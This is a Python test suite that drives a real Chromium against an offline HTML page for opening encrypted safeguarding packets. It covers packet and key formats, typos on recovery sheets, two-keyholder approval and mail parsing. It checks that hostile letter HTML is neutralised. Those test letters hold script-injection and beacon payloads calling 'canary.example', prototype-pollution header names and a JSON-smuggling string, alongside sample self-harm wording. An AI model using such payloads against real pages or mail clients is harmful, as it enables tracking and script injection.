#!/usr/bin/python3
# Opening without a command line: contrib/open/open.html in a real Chromium, against packets and keys
# of the C program and the other way round.
# timeout: 400
# slow
import base64
import glob
import os
import subprocess
import sys
from email.message import EmailMessage

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path[:0] = [os.path.join(HERE, "lib")]
from school import *
from browser import DESKTOP, NARROW, PHONE, PROGRAM as CHROMIUM, Browser

OPEN = os.path.join(HERE, "..", "contrib", "open")
PAGE = os.path.join(OPEN, "open.html")
VECTORS = os.path.join(HERE, "vectors", "v1")
VECTOR_PASSPHRASE = "correct horse bättery"
DONE = "document.querySelector('form [type=submit][aria-disabled]') === null"
# Where a screenshot of each state is to be left, for a person to look at.
PICTURES = os.environ.get("PICTURES")
# What Chromium itself asks for as it starts, whatever page it shows.
OWN = ("clients2.google.com", "accounts.google.com", "update.googleapis.com")

browser = None


def vector(name):
    return os.path.join(VECTORS, name)


def start(size=DESKTOP, path=PAGE, dark=False):
    page = browser.page(path, size, dark)
    page.wait("document.getElementById('starting').hidden")
    return page


def look(page, name):
    if PICTURES:
        os.makedirs(PICTURES, exist_ok=True)
        page.picture(os.path.join(PICTURES, name + ".png"))


def fill(page, packet, key=None, passphrase=None, sheet=None):
    """Opens this packet as a person would."""
    page.choose("#packet", packet)
    if sheet:
        if not page.shown("#key-sheet"):
            page.click("I have no key file")
        page.type("#key-sheet", sheet)
    else:
        page.choose("#key-file", key)
        page.type("#key-passphrase", passphrase)
    page.click("Open", "#open-form")
    page.wait(DONE)


def errors_of(page):
    return page.ask("[...document.querySelectorAll('.error')].filter(one => one.textContent && "
                    "one.checkVisibility()).map(one => one.textContent).join(' | ')")


def quiet(t, page, name, letters=False):
    """Nothing went out, and nothing was wrong in the page. A letter's own HTML breaches the policy,
    and must not be able to."""
    t.same([page.requests(), page.errors(), [] if letters else page.ask("window.violations")],
           [[], [], []], f"{name}: no request, no error, no breach of the policy")


def in_page(page, text, path, passphrase=None):
    """What formats.js makes of a packet and a key (or keys), without the page around it."""
    keys = path if isinstance(path, list) else [path]
    return page.ask("""(async (packet, keys, passphrase) => {
        try {
            const opened = packets.openPacket(packet,
                keys.map(key => formats.readKey(key, passphrase)));
            const lines = [];
            if (opened.messages === null)
                return "asks for consent";
            for (const one of opened.messages) {
                const hash = one.original &&
                    new Uint8Array(await crypto.subtle.digest("SHA-256", one.original));
                lines.push({message: one.id, at: one.at, ...one.who,
                            original: hash && sodium.to_hex(hash)});
            }
            return lines;
        } catch (error) {
            return error.code || "broke off: " + error;
        }
    })(%s, %s, %s)""" % tuple(json.dumps(one) for one in (text, keys, passphrase)))


def content(path):
    with open(path, encoding="utf-8") as file:
        return file.read()


# ---- the file ------------------------------------------------------------------------------------

def test_built(t):
    done = subprocess.run([os.path.join(OPEN, "build"), "--check"], capture_output=True, text=True)
    t.same(done.returncode, 0, "open.html is what contrib/open/build makes of its sources and the "
           "recorded libsodium.js")
    if done.returncode:
        t.note(done.stderr)
    with tempfile.TemporaryDirectory() as folder:
        shutil.copytree(OPEN, os.path.join(folder, "contrib", "open"))
        shutil.copy(os.path.join(HERE, "..", "Makefile"), folder)
        for name, old, new in (("opened.js", "Sure of", "Surely"), ("libsodium.json", '"0.8', '"0.9'),
                               ("open.html", "_sodium_init", "_sodium_Init"),
                               ("open.html", "default-src 'none'", "default-src *")):
            path = os.path.join(folder, "contrib", "open", name)
            before = content(path)
            assert old in before
            with open(path, "w", newline="") as file:
                file.write(before.replace(old, new, 1))
            done = subprocess.run([os.path.join(folder, "contrib", "open", "build"), "--check"],
                                  capture_output=True)
            t.same(done.returncode, 1, f"a change in {name} ({new}) is found")
            with open(path, "w", newline="") as file:
                file.write(before)


def test_built_from_the_registry(t):
    if not shutil.which("npm"):
        t.ok(True, "the same from the npm registry # SKIP there is no npm")
        return
    done = subprocess.run([os.path.join(OPEN, "build"), "--check", "--npm"], capture_output=True,
                          text=True)
    if "npm pack" in done.stderr:
        t.note(done.stderr[-300:])
        t.ok(True, "the same from the npm registry # SKIP it is not reached")
    else:
        t.ok(done.returncode == 0, "the same from the npm registry, byte for byte", done.stderr)


def test_manual(t):
    """doc/lead.md quotes the page."""
    manual = content(os.path.join(HERE, "..", "doc", "lead.md"))
    section = manual.split("## Opening without a command line")[1].split("\n## ")[0]
    said = "".join(content(path) for path in glob.glob(os.path.join(OPEN, "*.[hj]*")) if
                   path != PAGE)
    said = re.sub(r'" \+\s*"', "", re.sub(r"\s+", " ", said)).replace("’", "'")
    words = re.findall(r"(?<!\*)\*([^*]+)\*(?!\*)", section)
    words += [row.split(",")[0] for row in re.findall(r"(?m)^\| ([A-Z][^|]+?) \|", section)]
    words += re.findall(r"\*\*((?:Sure|Likely|Doubtful)[^*]*)\*\*", manual)
    ours = {"how", "Save as", "Download"}
    missing = [one for one in (" ".join(word.split()) for word in words)
               if one not in ours and one not in said]
    t.ok(len(words) > 12 and not missing, "doc/lead.md quotes the page as it is", words, missing)


# ---- formats -------------------------------------------------------------------------------------

def test_vectors(t):
    page = start()
    want = [json.loads(line) for line in content(vector("opened.jsonl")).splitlines()]
    packet, sheet = content(vector("packet")), content(vector("lead.sheet"))
    t.same(in_page(page, packet, sheet), want, "golden packet with the recovery sheet")
    t.same(in_page(page, packet, content(vector("lead.key")), VECTOR_PASSPHRASE), want,
           "golden packet with the key file")
    t.same(in_page(page, "\ufeff" + packet.replace("\n", "\r\n"), sheet.upper()), want,
           "mail has put in CRLF, and the sheet is in capitals")
    decomposed = VECTOR_PASSPHRASE.replace("ä", "a\u0308")
    t.same(in_page(page, packet, content(vector("lead.key")), decomposed), want,
           "a passphrase of other code points")
    refused = sorted(glob.glob(vector("refused/*")))
    t.ok(len(refused) >= 9, "there are some to refuse", refused)
    for path in refused:
        got = in_page(page, content(path), sheet)
        t.ok(isinstance(got, str) and got.startswith("packet-"), f"refused: {path[-30:]}", got)
    t.same(in_page(page, packet, content(vector("deputy.key")), VECTOR_PASSPHRASE), "packet-other",
           "refused: another keyholder's key")
    t.same(in_page(page, packet, content(vector("lead.key")), "x"), "passphrase",
           "refused: a wrong passphrase")
    page.close()


def test_vectors_for_two(t):
    """Golden packets that take two: opened with the keys that are enough, and no others."""
    page, folder = start(), os.path.join(HERE, "vectors", "two")
    sheets = {one: content(os.path.join(folder, one + ".sheet")) for one in
              ("okafor", "hughes", "singh")}
    want = [json.loads(line) for line in content(os.path.join(folder, "opened.jsonl")).splitlines()]

    def told(name, *holders):
        got = in_page(page, content(os.path.join(folder, name)), [sheets[one] for one in holders])
        return got if isinstance(got, str) else [
            {key: one[key] for key in want[0] if key in one} for one in got]

    want = [{key: one[key] for key in want[0]} for one in want]
    for name, *holders in (("packet", "okafor", "hughes"), ("packet", "singh", "okafor"),
                           ("packet", "okafor", "hughes", "singh"), ("danger", "okafor"),
                           ("approved", "okafor"), ("approved", "okafor", "singh")):
        t.same(told(name, *holders), want, f"{name}: {', '.join(holders)}")
    for name, *holders in (("packet", "okafor"), ("packet", "hughes"), ("packet", "singh"),
                           ("packet", "hughes", "singh"), ("danger", "hughes"),
                           ("danger", "hughes", "singh"), ("approved", "hughes"),
                           ("approved", "hughes", "singh")):
        got = told(name, *holders)
        t.ok(got == "asks for consent" or str(got).startswith("packet-"),
             f"{name}: {', '.join(holders)}: refused", got)
    refused = sorted(os.listdir(os.path.join(folder, "refused")))
    t.ok(len(refused) >= 4, "there are some to refuse", refused)
    for name in refused:
        got = told("refused/" + name, "okafor")
        t.ok(str(got).startswith(("packet-", "version")), f"two: refused: {name}", got)
    page.close()


def test_every_kind_of_damage(t):
    page = start()
    got = page.ask("""((packet, sheet) => {
        const holder = formats.readSheet(sheet), through = [];
        const [first, ...rest] = packet.trimEnd().split("\\n"), letters = rest.join("");
        const bytes = Uint8Array.from(atob(letters), c => c.charCodeAt(0));
        const again = changed => {
            let text = "";
            changed.forEach(byte => text += String.fromCharCode(byte));
            return first + "\\n" + btoa(text);
        };
        const tried = (name, text) => {
            try {
                packets.openPacket(text, [holder]);
                through.push(name);
            } catch (error) {
                if (!(error instanceof formats.Refused))
                    through.push(name + " broke off: " + error);
            }
        };
        try {
            packets.openPacket(again(bytes), [holder]);
        } catch (error) {
            through.push("the control does not open");
        }
        let count = 0;
        for (let at = 0; at < bytes.length; at += at < 400 ? 1 : 997, count++) {
            const changed = bytes.slice();
            changed[at] ^= 1 << at % 8;
            tried("bit of byte " + at, again(changed));
        }
        for (let end = 0; end < bytes.length; end += 1777, count++)
            tried("cut at " + end, again(bytes.slice(0, end)));
        tried("longer", again([...bytes, 0]));
        return [count, through];
    })(PACKET, SHEET)""".replace("PACKET", json.dumps(content(vector("packet"))))
                   .replace("SHEET", json.dumps(content(vector("lead.sheet")))))
    t.ok(got[0] > 500 and got[1] == [], f"{got[0]} packets with a bit toggled or cut: none opens", got)
    page.close()


KEY_FILES = [
    ("blank lines, CRLF, BOM, blanks at the ends",
     lambda text: "\ufeff\r\n" + text.replace("\n", "  \r\n\r\n"), None),
    ("no first line", lambda text: text.split("\n", 1)[1], "key-not"),
    ("a NUL", lambda text: text + "\0", "key-not"),
    ("a name changed", lambda text: text.replace("okafor", "okafur"), "key-damaged"),
    ("a line gone", lambda text: re.sub("salt.*\n", "", text), "key-damaged"),
    ("a line twice", lambda text: text + text.split("\n")[1] + "\n", "key-damaged"),
    ("another cost", lambda text: text.replace("id 4 ", "id 3 "), "key-damaged"),
    ("nothing", lambda text: "", "key-not"),
]


def test_key_files(t):
    page = start()
    packet, text = content(vector("packet")), content(vector("lead.key"))
    for name, change, want in KEY_FILES:
        got = in_page(page, packet, change(text), VECTOR_PASSPHRASE)
        t.same(got if want else len(got), want or 3, f"key file: {name}")
    page.close()


SLIPS = [
    ("a wrong letter in group 9", lambda s: swap(s, 9, "x" + s.split()[9][1:]), "Look at group 9 "),
    ("two letters changed places in group 3",
     lambda s: swap(s, 3, s.split()[3][1] + s.split()[3][0] + s.split()[3][2:]), "Look at group 3 "),
    ("a letter is missing in group 14", lambda s: swap(s, 14, s.split()[14][1:]), "Look at group 14 "),
    ("a letter twice in group 1", lambda s: swap(s, 1, s.split()[1][0] + s.split()[1]),
     "Look at group 1 "),
    ("a group is missing", lambda s: swap(s, 5, ""), "This has 54 letters; the sheet has 58"),
    ("two groups are wrong", lambda s: swap(swap(s, 2, "aaaa"), 7, "bbbb"), "some letters are wrong"),
]


def swap(sheet, group, new):
    groups = sheet.split()
    groups[group] = new
    return " ".join(groups)


def test_slips_of_the_hand(t):
    page = start(PHONE)
    sheet = content(vector("lead.sheet")).strip()
    t.ok(sheet.split()[9][0] != "x", "the vector's sheet fits this test")
    for name, change, want in SLIPS:
        fill(page, vector("packet"), sheet=change(sheet))
        t.has(errors_of(page), want, f"recovery sheet: {name}")
        t.ok(not page.shown("#opened"), f"{name}: nothing is shown")
    look(page, "sheet-slip-phone")
    for name, typed in (("capitals, hyphens, no line ends", sheet.upper().replace(" ", "-")),
                        ("without the first word", sheet[6:]),
                        ("with wbsecl for wbsec1", "wbsecl" + sheet[6:]),
                        ("o as 0, l as 1, b as 8", "wbsec1" + sheet[6:].translate(
                            str.maketrans("olb", "018")))):
        fill(page, vector("packet"), sheet=typed)
        t.ok(page.shown("#opened"), f"recovery sheet: {name}", errors_of(page))
        page.close()
        page = start(PHONE)
    quiet(t, page, "recovery sheet")
    page.close()


# ---- words of a mail -----------------------------------------------------------------------------

MAILS = [
    ("no MIME", b"From: a@b\r\n\r\nhelp me\r\n", "help me", []),
    ("no header at all", "I can't ä".encode(), "I can't ä", []),
    ("latin-1, quoted-printable", b"Content-Type: text/plain; charset=iso-8859-1\n"
     b"Content-Transfer-Encoding: quoted-printable\n\nM=FCde und =\nallein", "Müde und allein", []),
    ("utf-8 said to be ascii", "Content-Type: text/plain; charset=us-ascii\n\nmüde".encode(),
     "müde", []),
    ("an unknown charset", b"Content-Type: text/plain; charset=x-none\n\nm\xfcde", "müde", []),
    ("base64, broken lines", b"Content-Type: text/plain\nContent-Transfer-Encoding: base64\n\naGVs\n"
     b"cCBtZQ\n", "help me", []),
    ("HTML only", b"Content-Type: text/html\n\n<style>p{color:red}</style><p>help<br>me <b>now</b>"
     b"<script>document.title='x'</script><img src=http://canary.example/1.png></p>",
     "help\nme now[picture]", []),
    ("alternative", b"Content-Type: multipart/alternative; boundary=\"x y\"\n\npreamble\n--x y\n\n"
     b"plain\n--x y\nContent-Type: text/html\n\n<p>rich</p>\n--x y--\nafter", "plain", []),
    ("alternative without plain words", b"Content-Type: multipart/alternative; boundary=x\n\n--x\n\n"
     b" \n--x\nContent-Type: text/html\n\n<p>rich</p>\n--x--\n", "rich", []),
    ("mixed, an unclosed boundary", b"Content-Type: multipart/mixed; boundary=x\n\n--x\n\none\n--x\n"
     b"Content-Type: image/jpeg; name*=utf-8''caf%C3%A9.jpg\n\n\xff\xd8\n--x\n\ntwo", "one\n\ntwo",
     [["picture", "café.jpg"]]),
    ("an attached text", b"Content-Type: multipart/mixed; boundary=x\n\n--x\nContent-Type: text/plain"
     b"\nContent-Disposition: attachment; filename=\"=?utf-8?Q?caf=C3=A9?=.txt\"\n\nsecret\n--x--",
     "", [["file", "café.txt"]]),
    ("a mail in a mail", b"Content-Type: multipart/mixed; boundary=x\n\n--x\nContent-Type: "
     b"message/rfc822\n\nFrom: a@b\n\nhidden\n--x--", "", [["mail", ""]]),
    ("names of the machine's own objects", b"Content-Type: text/plain; __proto__=x; constructor=y; "
     b"charset=utf-8\n\nhelp", "help", []),
    ("direction marks and control characters", "\n\u202eabc\u2066\x07def".encode(), "abcdef", []),
    ("nothing", b"", "", []),
]


def test_words(t):
    page = start()
    for name, raw, text, attached in MAILS:
        got = page.ask("""(found => [found.text, found.attached.map(one => [one.kind, one.name])])
            (mail.read(Uint8Array.from(atob("%s"), c => c.charCodeAt(0))))"""
                       % base64.b64encode(raw).decode())
        t.same(got, [text, attached], f"mail: {name}")
    deep = page.ask("""(() => { let text = "help";
        for (let i = 0; i < 3000; i++)
            text = `Content-Type: multipart/mixed; boundary=b${i}\\n\\n--b${i}\\n${text}\\n--b${i}--`;
        const found = mail.read(new TextEncoder().encode(text));
        const wide = mail.read(new TextEncoder().encode("Content-Type: multipart/mixed; boundary=x\\n"
            + "\\n--x\\n\\nhelp".repeat(5000)));
        const html = mail.read(new TextEncoder().encode("Content-Type: text/html\\n\\n" +
            "<div>".repeat(100000) + "help"));
        const long = mail.read(new TextEncoder().encode("\\n" + "help ".repeat(100000)));
        return [found.cut, wide.cut, html.cut, long.cut, long.text.length]; })()""")
    t.same(deep, [True, True, True, True, 200000], "mails that nest, repeat and go on: bounded")
    quiet(t, page, "mails", True)
    page.close()


# ---- from a letter to who wrote ------------------------------------------------------------------

def harmful_letter():
    """HTML that would call home, a picture, a file; the words are in it all the same."""
    letter = EmailMessage()
    letter["From"] = "Ben Okonkwo <bokonkwo@hillside.example>"
    letter["To"] = BOX
    letter["Subject"] = "sorry <b>for</b> this"
    letter["Date"] = "Mon, 02 Mar 2026 07:58:00 +0000"
    letter["Message-ID"] = "<harm.1@hillside.example>"
    letter.set_content(
        "<p>i want to die</p><img src='http://canary.example/pixel.png'>"
        "<img src=x onerror=\"fetch('http://canary.example/x')\">"
        "<script>document.title = 'taken over'</script><iframe src='http://canary.example/f'></iframe>"
        "<link rel=stylesheet href='http://canary.example/c.css'><p>nobody <i>would</i> notice</p>",
        subtype="html")
    letter.add_attachment(b"\xff\xd8\xff\xe0 no picture", maintype="image", subtype="jpeg",
                          filename="IMG_0001.jpg", disposition="inline")
    letter.add_attachment(b"PK", maintype="application", subtype="zip", filename="a.zip")
    return letter.as_bytes(policy=email.policy.SMTP)


def unsealed(site, raw=None):
    """A packet of the C program for a letter about danger: (handle, path, the letter)."""
    raw = site.drop(raw or harmful_letter())
    site.run()
    handle = next(one["handle"] for one in site.cases() if one["flag"])
    done = site.unseal(handle, reason="says so in so many words")
    assert done.code == 0, done
    return handle, done.packet, raw


def test_who_wrote(t):
    with Site() as site:
        handle, packet, raw = unsealed(site)
        for name, size in (("desktop", DESKTOP), ("phone", PHONE), ("narrow", NARROW)):
            page = start(size)
            look(page, f"start-{name}")
            fill(page, packet, site.key("okafor")[0], PASSPHRASE)
            t.has(page.text, ["Ben Okonkwo", "bokonkwo@hillside.example", "Likely, not certain",
                              "i want to die", "nobody would notice", "sorry <b>for</b> this",
                              handle, "IMG_0001.jpg",
                              "1 picture, 1 file", "never shown", "says so in so many words",
                              "2 March 2026 at 07:58"], f"{name}: who wrote, how sure, what")
            t.lacks(page.text, ["taken over", "canary"], f"{name}: nothing of its HTML")
            t.same(page.ask("document.images.length + document.querySelectorAll('iframe, object, "
                            "embed, video, audio, link').length"), 0, f"{name}: no picture at all")
            t.ok(page.ask("document.documentElement.scrollWidth <= innerWidth"),
                 f"{name}: fits its width")
            t.same(page.paper()[0], 1, f"{name}: prints on one page")
            look(page, f"who-{name}")
            quiet(t, page, name, True)
            page.close()
        check_original(t, site, packet, raw)
        check_close(t, site, packet)
    ours = [line for line in browser.counter.asked if not any(own in line for own in OWN)]
    t.same(ours, [], "nothing at all has left the browser")


def check_original(t, site, packet, raw):
    page = start()
    fill(page, packet, site.key("okafor")[0], PASSPHRASE)
    page.click("The mail as it came")
    t.ok(page.ask("document.querySelector('button.danger').disabled"),
         "the original is not given before its warning was read")
    t.has(page.ask("document.querySelector('details').innerText"),
          ["ring the police", "do not look at it, copy it or send it on"], "the warning")
    look(page, "warning-desktop")
    page.click("I have read this")
    saved = page.saved(lambda: page.click("Save "))
    t.same([read(saved), saved.endswith(".eml")], [raw, True], "the mail is saved as it came")
    page.close()


def check_close(t, site, packet):
    page = start()
    fill(page, packet, site.key("okafor")[0], PASSPHRASE)
    page.ask("window.before = true")
    page.click("Close and forget")
    page.wait("window.before === undefined && document.readyState === 'complete' && "
              "document.getElementById('starting').hidden")
    t.ok("Ben" not in page.ask("document.documentElement.textContent") and
         page.ask("document.getElementById('packet').files.length") == 0 and
         page.ask("document.getElementById('key-passphrase').value") == "",
         "Close and forget leaves nothing")
    page.close()


SURENESS = [("pass", "Sure of the account"), ("fail", "Doubtful"), (None, "Likely, not certain")]


def test_how_sure(t):
    for result, words in SURENESS:
        with Site(site={"authserv-id": "mx.hillside.example"}) as site:
            says = f"mx.hillside.example; dmarc={result} header.from=hillside.example"
            raw = make_mail(BEN, DANGER, headers={"Authentication-Results": says if result else None})
            site.drop(raw)
            site.run()
            case = site.only()
            page = start(dark=result == "fail")
            fill(page, site.unseal(case["handle"]).packet, site.key("okafor")[0], PASSPHRASE)
            t.has(page.ask("document.querySelector('.sure').innerText"), words, f"how sure: {result}")
            look(page, f"sure-{result}")
            page.close()


def test_several_letters(t):
    with Site() as site:
        site.write(BEN, DANGER, "first")
        site.run()
        handle = site.only()["handle"]
        ack = site.got(BEN)
        site.later(minutes=5)
        site.answer(ack, BEN, "are you there")
        site.run()
        page = start()
        fill(page, site.unseal(handle).packet, site.key("okafor")[0], PASSPHRASE)
        text = page.text
        t.has(text, ["Letter 2 of 2", "Letter 1 of 2", "are you there", DANGER, "the newest first"],
              "two letters")
        t.ok(text.index("are you there") < text.index(DANGER) and 
             page.ask("document.querySelectorAll('.who').length") == 1,
             "the newest first, and one person once", text)
        look(page, "letters-desktop")
        page.close()


# ---- a practice ----------------------------------------------------------------------------------

def test_practice(t):
    """A drill is called one, by what the host has sealed into it; nothing else is."""
    says = "This is a practice."
    with Site() as site:
        packet = site.unseal(site.do("drill").out.split()[0]).packet
        page = start()
        fill(page, packet, site.key("okafor")[0], PASSPHRASE)
        t.has(page.text, [says, "no child is in danger", "Practice Pupil"], "a practice says so")
        look(page, "practice-desktop")
        t.same(page.paper()[0], 1, "and prints on one page")
        page.close()
        site.write('"Practice Pupil (the word is blue-nothing)" <practice@hillside.example>',
                   f'This is a practice. "practice": true {DANGER}', 'x","practice":true,"y":"')
        site.run()
        real = next(case["handle"] for case in site.cases() if case["letters"] and
                    "drill" not in case["categories"])
        page = start()
        fill(page, site.unseal(real).packet, site.key("okafor")[0], PASSPHRASE)
        t.has(page.text, "practice@hillside.example", "control: it opens")
        t.ok(not page.ask("[...document.querySelectorAll('#opened .notice strong')].some(one => "
                          "one.textContent.startsWith('This is a practice'))"),
             "a letter that pretends is no practice")
        page.close()


# ---- a packet that came by mail -----------------------------------------------------------------

def mailed(site, raw):
    """The packet as the lead saves it from the mail that answers UNSEAL."""
    site.drop(raw)
    site.run()
    site.answer(site.got(LEAD), LEAD, "UNSEAL danger: says so in so many words")
    site.run()
    [part] = site.got(LEAD, "A file for you").attached
    path = os.path.join(site.folder, part.get_filename())
    with open(path, "wb") as file:
        file.write(part.get_payload(decode=True))
    return path


def test_by_mail(t):
    large = make_mail(BEN, DANGER).rstrip() + b"\n" + (b"x" * 76 + b"\n") * 180000
    for name, raw, words in (("a letter", make_mail(BEN, DANGER), DANGER),
                             ("a large one", large, "The letters were left out")):
        with Site(blocks="limits\n    mail-size 60M\n") as site:
            page = start()
            fill(page, mailed(site, raw), site.key("okafor")[0], PASSPHRASE)
            t.has(page.text, ["Ben Okonkwo", words], f"by mail: {name}")
            page.close()


# ---- where it takes two -----------------------------------------------------------------------------

def two_keyholders(page, packet, site):
    page.click("Add a second keyholder")
    page.choose("#second-key-file", site.key("hughes")[0])
    page.type("#second-key-passphrase", PASSPHRASE)
    fill(page, packet, site.key("okafor")[0], PASSPHRASE)


def test_two_to_open(t):
    with Site(site={"two-to-open": "yes", "emergency": "no"}) as site:
        site.write(BEN, DANGER, "please")
        site.run()
        packet = site.unseal(site.only()["handle"]).packet
        page = start()
        page.choose("#packet", packet)
        page.wait("!document.getElementById('two').hidden")
        look(page, "two-desktop")
        fill(page, packet, site.key("okafor")[0], PASSPHRASE)
        t.has(errors_of(page), ["It takes two keyholders", "to hughes, who can approve it"],
              "two: the one who asks does not open it alone, and is told who could help")
        t.ok("Okonkwo" not in page.ask("document.documentElement.textContent"),
             "two: nothing is shown to one alone")
        two_keyholders(page, packet, site)
        t.has(page.text, ["Ben Okonkwo", DANGER, "Together with", "hughes"], "two: both at one machine")
        look(page, "two-opened")
        page.close()
        approved = approve_in_page(t, site, packet)
        for name, path in (("the page", approved), ("the C program", approve(site, packet))):
            page = start()
            fill(page, path, site.key("okafor")[0], PASSPHRASE)
            t.has(page.text, ["Ben Okonkwo", "hughes"], f"two: what {name} approved opens in the page")
            page.close()
            t.same(site.open(path).lines[0]["name"], "Ben Okonkwo",
                   f"two: what {name} approved opens with worrybox open")
            t.same(in_page(start(), content(path), site.key("hughes")[2]), "packet-other",
                   f"two: what {name} approved is for the one who asked alone")
        bad = in_page(start(), content(packet).replace("packet 2", "packet 1"), site.key("okafor")[2])
        t.same(bad, "packet-damaged", "two: not to be taken for a packet of version 1")


def rewrapped(site):
    """The lead has a new key, "new", and what was sealed to the old one goes to it."""
    site.person("lead okafor", key=site.key("new")[1])
    old, new = (worrybox("key", "show", site.key(name)[1]).out.split("\n")[0]
                for name in ("okafor", "new"))
    packet, answer = (os.path.join(site.folder, name) for name in ("rewrap", "answer"))
    site.do("key", "rewrap", old, "--to", "okafor", "--out", packet)
    done = worrybox("key", "reseal", packet, "--key", site.key("okafor")[0], "--passphrase-file",
                    site.passphrase(), "--to", new, "--out", answer)
    assert done.code == 0, done
    site.do("key", "take", answer)
    return packet


def test_two_after_rewrapping(t):
    with Site(site={"two-to-open": "yes", "emergency": "no"}) as site:
        site.write(BEN, DANGER, "please")
        site.run()
        seals = rewrapped(site)
        packet = site.unseal(site.only()["handle"]).packet
        page = start()
        page.choose("#packet", packet)
        page.wait("!document.getElementById('two').hidden")
        page.click("Add a second keyholder")
        page.choose("#second-key-file", site.key("hughes")[0])
        page.type("#second-key-passphrase", PASSPHRASE)
        fill(page, packet, site.key("new")[0], PASSPHRASE)
        t.has(page.text, ["Ben Okonkwo", "Together with", "hughes"],
              "re-wrapped: both at one machine")
        page.close()
        approved = approve_in_page(t, site, packet)
        t.same(worrybox("open", approved, "--key", site.key("new")[0], "--passphrase-file",
                        site.passphrase(), "--json").lines[0]["name"], "Ben Okonkwo",
               "re-wrapped: what the page approved opens with the new key")
        page = start()
        fill(page, approve(site, packet), site.key("new")[0], PASSPHRASE)
        t.has(page.text, ["Ben Okonkwo", "hughes"],
              "re-wrapped: what the C program approved opens in the page")
        page.close()
        t.same(in_page(start(), content(packet), site.key("new")[2]), "packet-two",
               "re-wrapped: not alone")
        said = in_page(start(), content(seals), site.key("okafor")[2])
        t.ok(said.startswith("packet-") or said == "version",
             "re-wrapped: the packet of seals is not for opening", said)


def test_one_alone_for_danger(t):
    with Site(site={"two-to-open": "yes"}) as site:
        site.write(BEN, DANGER)
        site.run()
        page = start()
        fill(page, site.unseal(site.only()["handle"]).packet, site.key("okafor")[0], PASSPHRASE)
        t.has(page.text, "Ben Okonkwo", "two: where the host lets one open alone for danger")
        page.close()


def approve(site, packet):
    out = os.path.join(site.folder, "approved-by-c.packet")
    done = worrybox("approve", packet, "--key", site.key("hughes")[0], "--passphrase-file",
                    site.passphrase(), "--out", out)
    assert done.code == 0, done
    return out


def approve_in_page(t, site, packet):
    page = start(PHONE)
    fill(page, packet, sheet=site.key("hughes")[2])
    t.has(page.text, ["You are asked to approve", "okafor wants to find out who wrote",
                      "they may be in danger", "You will not see who wrote"],
          "two: the second sees what is asked")
    t.ok("Okonkwo" not in page.ask("document.documentElement.textContent"),
         "two: and not who wrote")
    look(page, "approve-phone")
    saved = page.saved(lambda: page.click("Approve, and save"))
    quiet(t, page, "two")
    page.close()
    return saved


# ---- what goes wrong -----------------------------------------------------------------------------

def test_clear_words(t):
    with Site() as site:
        handle, packet, _ = unsealed(site)
        okafor, hughes = site.key("okafor"), site.key("hughes")
        damaged = os.path.join(site.folder, "damaged.packet")
        text = content(packet)
        with open(damaged, "w") as file:
            file.write(text[:2000] + ("A" if text[2000] != "A" else "B") + text[2001:])
        other = os.path.join(site.folder, "notes.txt")
        with open(other, "w") as file:
            file.write("milk\n")
        table = [
            ("a wrong passphrase", packet, okafor[0], "incorrect horse", "The passphrase is wrong"),
            ("another's key", packet, hughes[0], PASSPHRASE, "made for another keyholder"),
            ("a damaged packet", damaged, okafor[0], PASSPHRASE, "This packet is damaged"),
            ("no packet", other, okafor[0], PASSPHRASE, "This is not a packet"),
            ("no key", packet, other, PASSPHRASE, "This is not a key file"),
            ("files changed about", okafor[0], packet, PASSPHRASE,
             "This is a key. The packet belongs here. | This is a packet. Your key file"),
            ("a damaged key file", packet, write(site, content(okafor[0]).replace("salt", "sa1t")),
             PASSPHRASE, "This key file is damaged"),
            ("no passphrase", packet, okafor[0], "", "Type the passphrase"),
        ]
        page = start()
        page.click("Open", "#open-form")
        page.wait(DONE)
        t.same([errors_of(page), page.focused()],
               ["Choose the packet you were sent. | Choose your key file. | "
                "Type the passphrase of this key.", "packet"],
               "nothing chosen: all of it is said at once, and the first is where one stands")
        look(page, "errors-desktop")
        for name, chosen, key, passphrase, words in table:
            fill(page, chosen, key, passphrase)
            t.has(errors_of(page), words, f"{name}: clear words")
            t.ok(not page.shown("#opened") and "Okonkwo" not in
                 page.ask("document.documentElement.textContent"), f"{name}: nothing is shown")
            t.ok(page.ask("document.activeElement.getAttribute('aria-invalid')") == "true",
                 f"{name}: one stands where it is to be mended")
        fill(page, packet, okafor[0], PASSPHRASE)
        t.ok(page.shown("#opened") and errors_of(page) == "", "and then it opens")
        quiet(t, page, "what goes wrong", True)
        page.close()


def test_faults(t):
    with tempfile.TemporaryDirectory() as folder:
        mine = os.path.join(folder, "mine.packet")
        shutil.copy(vector("packet"), mine)
        page = start()
        page.choose("#packet", mine)
        page.ask("new Promise(done => setTimeout(done, 500))")  # it has been looked at
        with open(mine, "a") as file:
            file.write("changed")
        os.utime(mine, (1, 1))
        page.choose("#key-file", vector("lead.key"))
        page.type("#key-passphrase", VECTOR_PASSPHRASE)
        page.click("Open", "#open-form")
        page.wait(DONE)
        t.has(errors_of(page), "This file cannot be read. Choose it again.",
              "a file that has changed since it was chosen")
        page.ask("packets.openPacket = () => { throw new TypeError('of the test'); }")
        fill(page, vector("packet"), vector("lead.key"), VECTOR_PASSPHRASE)
        t.has(errors_of(page), ["a fault of this page", "TypeError: of the test"],
              "a fault of the page is said, too")
        page.close()


def write(site, text):
    path = os.path.join(site.folder, "changed.key")
    with open(path, "w") as file:
        file.write(text)
    return path


# ---- making keys ---------------------------------------------------------------------------------

def make_key(page, name, passphrase):
    """(key file, public line, sheet) as the page gives them."""
    page.click("Make a key", "nav")
    page.type("#make-name", name)
    page.type("#make-one", passphrase)
    page.type("#make-two", passphrase)
    page.click("Make my key")
    page.wait(DONE)
    saved = page.saved(lambda: page.click(f"Save {name}.key"))
    line = page.ask("document.getElementById('public-line').value")
    sheet = page.ask("document.querySelector('#made .groups').textContent")
    return saved, line, sheet


def test_a_key_of_the_page(t):
    page = start(PHONE)
    page.click("Make a key", "nav")
    look(page, "make-phone")
    for name, one, two, words in (("Ms Okafor", "a long enough one", "a long enough one", "Small lett"),
                                  ("okafor", "short", "short", "too short"),
                                  ("okafor", "a long enough one", "a long enough ine", "not the same")):
        page.type("#make-name", name)
        page.type("#make-one", one)
        page.type("#make-two", two)
        page.click("Make my key")
        page.wait(DONE)
        t.has(errors_of(page), words, f"making a key: {words}")
    passphrase = "nine grüne Enten und ein Huhn"
    key, line, sheet = make_key(page, "okafor", passphrase)
    look(page, "made-phone")
    page.click("Print the sheet")
    t.same(page.ask("window.printed"), 1, "the sheet goes to the printer")
    pages, pdf = page.paper()
    t.same(pages, 1, "the recovery sheet prints on one page")
    if PICTURES:
        with open(os.path.join(PICTURES, "sheet.pdf"), "wb") as file:
            file.write(pdf)
